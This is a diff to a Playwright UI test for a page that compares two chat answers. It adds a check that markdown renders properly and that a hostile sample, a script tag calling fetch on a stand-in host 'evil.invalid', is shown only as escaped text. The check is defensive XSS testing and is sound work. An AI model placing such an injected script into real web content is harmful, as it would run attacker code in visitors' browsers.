@@ -4,11 +4,12 @@ import re
 from contextlib import suppress
 
 import pytest
-from browser import CHROMIUM, fill
+from browser import CHROMIUM, fill, violations
 from fastapi import FastAPI
 from playwright.sync_api import BrowserContext, Locator, Page, expect
 
 from tests.ui.conftest import BASE, CARD, KEY, NO_CHAT, Fake, running
+from tests.ui.samples import HOSTILE, MARKDOWN
 from ui.page import mount
 from ui.visitors import Visitors
 
@@ -438,6 +439,19 @@ def test_two_answers_are_compared_stopped_and_copied(several: Page, fake: Fake):
     assert right.bounding_box()["y"] > left.bounding_box()["y"], "a phone shows one below the other"
     right.get_by_role("button", name="Copy answer B").click()
     expect(right.get_by_role("button", name="Copied")).to_be_visible()
+    fake.words, fake.thoughts, fake.finish_reason = [MARKDOWN, HOSTILE], ["Hm."], "length"
+    expect(several.get_by_role("button", name="Compare", exact=True)).to_be_enabled()
+    several.get_by_role("button", name="Compare", exact=True).click()
+    expect(left.locator("strong")).to_have_text("bold")
+    expect(left.locator("td").first).to_have_text("Mercury")
+    expect(left).to_contain_text("The answer was cut: it reached the limit of tokens.")
+    expect(left).to_contain_text("<script>fetch('http://evil.invalid/c')</script>")
+    expect(left.get_by_text("Hm.")).to_be_hidden()
+    left.get_by_text("Thought").click()
+    expect(left.get_by_text("Hm.")).to_be_visible()
+    assert left.locator("img, script, iframe, image, [href^=javascript]").count() == 0
+    assert violations(several) == []
+    fake.thoughts, fake.finish_reason = [], "stop"
     fake.words, fake.wait_s = ["time "] * 500, 0.1
     expect(several.get_by_role("button", name="Compare", exact=True)).to_be_enabled()
     several.get_by_role("button", name="Compare", exact=True).click()
